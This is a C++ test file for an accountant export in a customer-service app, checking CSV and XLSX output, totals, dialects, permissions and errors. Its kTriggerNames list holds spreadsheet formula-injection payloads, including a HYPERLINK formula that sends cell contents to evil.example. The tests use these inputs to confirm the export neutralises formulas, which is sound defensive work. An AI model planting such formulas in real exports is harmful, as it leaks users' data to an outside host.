// SPDX-FileCopyrightText: 2026 The Rapport developers
// SPDX-License-Identifier: GPL-3.0-or-later
// The accountant's export: which rows, their totals, and files that a spreadsheet opens
// cleanly, checked by independent readers (Python's csv module, openpyxl).
#include "../core/format_test_support.h"
#include "../support/test_database.h"
#include "export_test_support.h"
#include "store/sqlite/connection.h"

#include "core/csv_reader.h"
#include "exchange/accountant_export.h"
#include "exchange/demo.h"
#include "store/settings_store.h"

#include <SQLiteCpp/SQLiteCpp.h>
#include <catch2/catch.hpp>
#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <cmath>
#include <map>
#include <sys/stat.h>

using namespace rapport;
using namespace date::literals;
using export_test::add_customer;
using export_test::add_incident;
using export_test::Res;
using format_test::TempDir;

namespace {

std::vector<exchange::AccountantRow> rows_of(store::Database& db, Date from, Date to,
                                             std::vector<std::string>* names = nullptr) {
    std::vector<exchange::AccountantRow> out;
    exchange::for_each_accountant_row(db, from, to, [&](const exchange::AccountantRow& r) {
        out.push_back(r);
        if (names)
            names->emplace_back(r.customer); // the views die after the call
        out.back().customer = {};
        out.back().summary = {};
    });
    return out;
}

// Customers whose names a spreadsheet would run as formulas, one refund each in January.
const std::vector<std::string> kTriggerNames = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1", "-x", "@x", "\tx", "\rx"};

void add_trigger_customers(store::Database& db) {
    int day = 1;
    for (const auto& name : kTriggerNames) {
        const auto id = add_customer(db, name);
        add_incident(db, id, fmt::format("2026-01-{:02}T10:00", day++), "=SUM(A1:A9)",
                     {{"refund", 1250, "accepted"}});
    }
}

nlohmann::json read_xlsx(const std::filesystem::path& file, const TempDir& dir) {
    const auto out = dir / "xlsx.json";
    REQUIRE(format_test::run_tool("read_xlsx.py", file, out) == 0);
    return nlohmann::json::parse(format_test::read_bytes(out));
}

unsigned mode_of(const std::filesystem::path& p) {
    struct stat st {};
    REQUIRE(::stat(p.c_str(), &st) == 0);
    return st.st_mode & 0777;
}

} // namespace

TEST_CASE("only accepted resolutions that cost money, inside the inclusive range, are exported",
          "[accountant]") {
    auto db = test::fresh_database();
    const auto anna = add_customer(db, "Anna");
    const auto first_minute = add_incident(db, anna, "2026-01-01T00:00", "first day",
                                           {{"refund", 1000}, {"discount", 250, "offered"}});
    add_incident(db, anna, "2025-12-31T23:59", "day before", {{"refund", 999}});
    const auto last_minute = add_incident(
        db, anna, "2026-01-31T23:59", "last day",
        {{"store-credit", 500}, {"apology-only", 0}, {"replacement", 700, "declined"}});
    add_incident(db, anna, "2026-02-01T00:00", "day after", {{"refund", 998}});

    const auto rows = rows_of(db, 2026_y / 1 / 1, 2026_y / 1 / 31);
    REQUIRE(rows.size() == 2);
    CHECK(rows[0].interaction_id == first_minute);
    CHECK(rows[0].date == 2026_y / 1 / 1);
    CHECK(rows[0].type == ResolutionType::refund);
    CHECK(rows[0].amount.cents == 1000);
    CHECK(rows[1].interaction_id == last_minute);
    CHECK(rows[1].type == ResolutionType::store_credit);
    CHECK(rows[1].amount.cents == 500);

    const auto single_day = rows_of(db, 2026_y / 1 / 31, 2026_y / 1 / 31);
    REQUIRE(single_day.size() == 1);
    CHECK(single_day[0].interaction_id == last_minute);
}

TEST_CASE("export totals equal a direct SQL sum, by type, by month and overall", "[accountant]") {
    TempDir dir;
    auto db = store::Database::open(dir / "shop.db");
    exchange::generate_demo(
        db, {.customers = 150, .interactions = 3000, .seed = 7, .today = 2026_y / 11 / 25});
    const Date from = 2025_y / 6 / 15;
    const Date to = 2026_y / 3 / 10;
    const auto result =
        exchange::export_accountant(db, from, to, exchange::AccountantFormat::csv, dir / "a.csv");
    const char* where = R"(FROM resolution r JOIN interaction i ON i.id = r.interaction_id
        WHERE r.status = 'accepted' AND r.cost > 0
          AND date(i.occurred_at) BETWEEN '2025-06-15' AND '2026-03-10')";

    REQUIRE(result.totals.rows > 100);
    CHECK(std::int64_t(result.totals.rows) ==
          export_test::count(db, std::string("SELECT count(*) ") + where));
    CHECK(result.totals.total.cents ==
          export_test::count(db, std::string("SELECT sum(r.cost) ") + where));

    std::map<std::string, std::int64_t> by_type, by_month;
    SQLite::Statement types(sqlite(db), std::string("SELECT r.type, sum(r.cost) ") + where +
                                            " GROUP BY r.type");
    while (types.executeStep())
        by_type[types.getColumn(0).getString()] = types.getColumn(1).getInt64();
    SQLite::Statement months(sqlite(db), std::string("SELECT substr(i.occurred_at, 1, 7), "
                                                     "sum(r.cost) ") +
                                             where + " GROUP BY 1");
    while (months.executeStep())
        by_month[months.getColumn(0).getString()] = months.getColumn(1).getInt64();
    REQUIRE(result.totals.by_type.size() == by_type.size());
    for (const auto& t : result.totals.by_type)
        CHECK(t.amount.cents == by_type.at(std::string(to_key(t.type))));
    REQUIRE(result.totals.by_month.size() == by_month.size());
    CHECK(result.totals.by_month.front().label() == "2025-06");
    CHECK(result.totals.by_month.back().label() == "2026-03");
    for (const auto& m : result.totals.by_month)
        CHECK(m.amount.cents == by_month.at(m.label()));

    // The preview's SQL totals agree, and so does the file itself, summed cell by cell.
    const auto preview = exchange::accountant_totals(db, from, to);
    CHECK(preview.total == result.totals.total);
    CHECK(preview.rows == result.totals.rows);
    const CsvTable csv = read_csv_file(dir / "a.csv");
    Money in_file;
    for (std::size_t k = 1; k < csv.records.size(); ++k)
        in_file += parse_money(csv.records[k].fields[6]);
    CHECK(in_file == result.totals.total);
    CHECK(csv.records.size() == result.totals.rows + 1);
}

TEST_CASE("text a spreadsheet would run as a formula is guarded while amounts stay numbers",
          "[accountant][csv]") {
    TempDir dir;
    auto db = test::fresh_database();
    add_trigger_customers(db);
    exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31,
                                exchange::AccountantFormat::csv, dir / "a.csv");
    const std::string bytes = format_test::read_bytes(dir / "a.csv");
    CHECK(bytes.rfind("\xEF\xBB\xBF", 0) == 0);
    REQUIRE(format_test::run_tool("read_csv.py", dir / "a.csv", dir / "rows.txt") == 0);
    const auto records = format_test::read_hex_records(dir / "rows.txt");
    REQUIRE(records.size() == kTriggerNames.size() + 1);
    CHECK(records[0] == std::vector<std::string>{"date", "customer", "customer id",
                                                 "interaction id", "category", "resolution type",
                                                 "amount", "currency", "summary"});
    for (std::size_t k = 0; k < kTriggerNames.size(); ++k) {
        const auto& row = records[k + 1];
        REQUIRE(row.size() == 9);
        CHECK(row[1] == "'" + kTriggerNames[k]);
        CHECK(row[8] == "'=SUM(A1:A9)");
        CHECK(row[6] == "12.50"); // a number, never prefixed
        CHECK(row[7] == "EUR");
        CHECK(row[0] == fmt::format("2026-01-{:02}", k + 1));
    }
    // And in the raw bytes: the amount is a bare number between commas.
    CHECK(bytes.find(",12.50,EUR,") != std::string::npos);
    CHECK(bytes.find("\r\n") != std::string::npos);
}

TEST_CASE("the XLSX opens in openpyxl with the same values: numbers are numbers, dates are dates",
          "[accountant][xlsx]") {
    TempDir dir;
    auto db = test::fresh_database();
    add_trigger_customers(db);
    const auto anna = add_customer(db, "Anna Müller");
    add_incident(db, anna, "2026-02-03T09:30", "Kettle, \"new\" one\r\nbroke",
                 {{"replacement", 3550}, {"discount", 5}}, "billing");
    store::SettingsStore(db).set("currency", "CHF");
    const auto result = exchange::export_accountant(
        db, 2026_y / 1 / 1, 2026_y / 2 / 28, exchange::AccountantFormat::xlsx, dir / "a.xlsx");
    std::vector<std::string> names;
    const auto rows = rows_of(db, 2026_y / 1 / 1, 2026_y / 2 / 28, &names);
    REQUIRE(rows.size() == 8);

    const auto x = read_xlsx(dir / "a.xlsx", dir);
    CHECK(x["sheets"] == nlohmann::json({"Resolutions", "Totals"}));
    const auto& data = x["Resolutions"];
    CHECK(data["freeze"] == "A2");
    CHECK(data["filter"] == "A1:I9");
    const auto& cells = data["rows"];
    REQUIRE(cells.size() == rows.size() + 1);
    CHECK(cells[0][0]["value"] == "date");
    CHECK(cells[0][8]["value"] == "summary");
    for (std::size_t k = 0; k < rows.size(); ++k) {
        const auto& c = cells[k + 1];
        const auto& r = rows[k];
        CHECK(c[0]["type"] == "date");
        CHECK(c[0]["value"] == format_date(r.date));
        CHECK(c[1]["type"] == "text"); // never a formula, and kept exactly as typed
        CHECK(c[1]["value"] == names[k]);
        CHECK(c[2]["type"] == "number");
        CHECK(c[2]["value"] == r.customer_id);
        CHECK(c[3]["value"] == r.interaction_id);
        CHECK(c[5]["value"] == std::string(to_label(r.type)));
        CHECK(c[6]["type"] == "number");
        CHECK(c[6]["format"] == "0.00");
        CHECK(std::llround(c[6]["value"].get<double>() * 100) == r.amount.cents);
        CHECK(c[7]["value"] == "CHF");
    }
    CHECK(cells[7][8]["value"] == "Kettle, \"new\" one\r\nbroke");
    CHECK(cells[8][6]["value"].get<double>() == Approx(0.05));

    const auto& totals = x["Totals"]["rows"];
    std::map<std::string, double> amounts;
    for (const auto& row : totals) {
        if (row[0]["type"] == "text" && row[2]["type"] == "number")
            amounts[row[0]["value"].get<std::string>()] = row[2]["value"].get<double>();
    }
    CHECK(amounts.at("Refund") == Approx(75.00));
    CHECK(amounts.at("Replacement") == Approx(35.50));
    CHECK(amounts.at("2026-01") == Approx(75.00));
    CHECK(amounts.at("2026-02") == Approx(35.55));
    CHECK(amounts.at("Total") == Approx(double(result.totals.total.cents) / 100));
    CHECK(result.totals.total.cents == 7500 + 3550 + 5);
}

TEST_CASE("a range that ends before it starts is refused and nothing is written",
          "[accountant][errors]") {
    TempDir dir;
    auto db = test::fresh_database();
    for (const auto format : {exchange::AccountantFormat::csv, exchange::AccountantFormat::xlsx}) {
        CHECK_THROWS_AS(
            exchange::export_accountant(db, 2026_y / 2 / 1, 2026_y / 1 / 31, format, dir / "a.out"),
            InputError);
    }
    CHECK_THROWS_WITH(exchange::accountant_totals(db, 2026_y / 2 / 1, 2026_y / 1 / 31),
                      Catch::Contains("2026-02-01") && Catch::Contains("2026-01-31"));
    CHECK(std::filesystem::is_empty(dir.path()));
}

TEST_CASE("an export into a folder that cannot be written says so and leaves nothing",
          "[accountant][errors]") {
    TempDir dir;
    auto db = test::fresh_database();
    add_trigger_customers(db);
    format_test::write_bytes(dir / "somefile", "not a folder");
    for (const auto format : {exchange::AccountantFormat::csv, exchange::AccountantFormat::xlsx}) {
        const std::string message = format_test::data_error([&] {
            exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31, format,
                                        dir / "somefile" / "out.csv");
        });
        CHECK_THAT(message, Catch::Contains("somefile"));
        CHECK(message.back() == '.');
    }
    CHECK(format_test::read_bytes(dir / "somefile") == "not a folder");
    CHECK(std::distance(std::filesystem::directory_iterator(dir.path()),
                        std::filesystem::directory_iterator()) == 1);
}

TEST_CASE("accountant exports are readable by the owner only", "[accountant]") {
    TempDir dir;
    auto db = test::fresh_database();
    add_trigger_customers(db);
    const mode_t old = ::umask(0);
    exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31,
                                exchange::AccountantFormat::csv, dir / "a.csv");
    exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31,
                                exchange::AccountantFormat::xlsx, dir / "a.xlsx");
    ::umask(old);
    CHECK(mode_of(dir / "a.csv") == 0600);
    CHECK(mode_of(dir / "a.xlsx") == 0600);
}

TEST_CASE("a quiet month still gives a valid file with a header and zero totals", "[accountant]") {
    TempDir dir;
    auto db = test::fresh_database();
    add_trigger_customers(db);
    const auto csv = exchange::export_accountant(db, 2026_y / 3 / 1, 2026_y / 3 / 31,
                                                 exchange::AccountantFormat::csv, dir / "a.csv");
    CHECK(csv.totals.rows == 0);
    CHECK(csv.totals.total.cents == 0);
    CHECK(format_test::read_bytes(dir / "a.csv") ==
          "\xEF\xBB\xBF"
          "date,customer,customer id,interaction id,category,resolution type,amount,currency,"
          "summary\r\n");
    exchange::export_accountant(db, 2026_y / 3 / 1, 2026_y / 3 / 31,
                                exchange::AccountantFormat::xlsx, dir / "a.xlsx");
    const auto x = read_xlsx(dir / "a.xlsx", dir);
    CHECK(x["Resolutions"]["rows"].size() == 1);
}

TEST_CASE("the German CSV has semicolons and decimal commas and its amounts sum to the total",
          "[accountant][csv][dialect]") {
    TempDir dir;
    auto db = store::Database::open(dir / "shop.db");
    exchange::generate_demo(
        db, {.customers = 40, .interactions = 600, .seed = 3, .today = 2026_y / 11 / 25});
    add_trigger_customers(db);
    const Date from = 2026_y / 1 / 1;
    const Date to = 2026_y / 6 / 30;
    const auto result = exchange::export_accountant(db, from, to, exchange::AccountantFormat::csv,
                                                    dir / "de.csv", CsvDialect::semicolon);
    CHECK(result.dialect == CsvDialect::semicolon);
    const std::string bytes = format_test::read_bytes(dir / "de.csv");
    CHECK(bytes.rfind("\xEF\xBB\xBF"
                      "date;customer;customer id;interaction id;category;resolution type;"
                      "amount;currency;summary\r\n",
                      0) == 0);
    CHECK(bytes.find(";12,50;EUR;'=SUM(A1:A9)\r\n") != std::string::npos);

    // Read back as a German spreadsheet would: ';' between fields, ',' before the cents.
    const CsvTable csv = read_csv_file(dir / "de.csv");
    CHECK(csv.delimiter == ';');
    REQUIRE(csv.records.size() == result.totals.rows + 1);
    Money in_file;
    for (std::size_t k = 1; k < csv.records.size(); ++k) {
        std::string amount = csv.records[k].fields[6];
        REQUIRE(amount.size() > 3);
        CHECK(amount[amount.size() - 3] == ',');
        CHECK(amount.find('.') == std::string::npos);
        amount[amount.size() - 3] = '.';
        in_file += parse_money(amount);
        CHECK(csv.records[k].fields[0].size() == 10); // 2026-01-31: ISO in every dialect
    }
    CHECK(in_file == result.totals.total);
}

TEST_CASE("with no dialect given the export writes the one the csv_dialect setting names",
          "[accountant][csv][dialect]") {
    TempDir dir;
    auto db = store::Database::open(dir / "shop.db");
    add_trigger_customers(db);
    const auto export_now = [&](const std::string& name) {
        return exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31,
                                           exchange::AccountantFormat::csv, dir / name);
    };
    CHECK(export_now("auto.csv").dialect == system_csv_dialect());
    store::SettingsStore(db).set("csv_dialect", "de");
    CHECK(export_now("de.csv").dialect == CsvDialect::semicolon);
    CHECK(format_test::read_bytes(dir / "de.csv").find(";12,50;") != std::string::npos);
    store::SettingsStore(db).set("csv_dialect", "comma");
    CHECK(export_now("en.csv").dialect == CsvDialect::comma);
    CHECK(format_test::read_bytes(dir / "en.csv").find(",12.50,") != std::string::npos);
    // An explicit choice wins over the setting, and the XLSX has no dialect to follow.
    const auto chosen = exchange::export_accountant(db, 2026_y / 1 / 1, 2026_y / 1 / 31,
                                                    exchange::AccountantFormat::csv,
                                                    dir / "chosen.csv", CsvDialect::semicolon);
    CHECK(chosen.dialect == CsvDialect::semicolon);
}
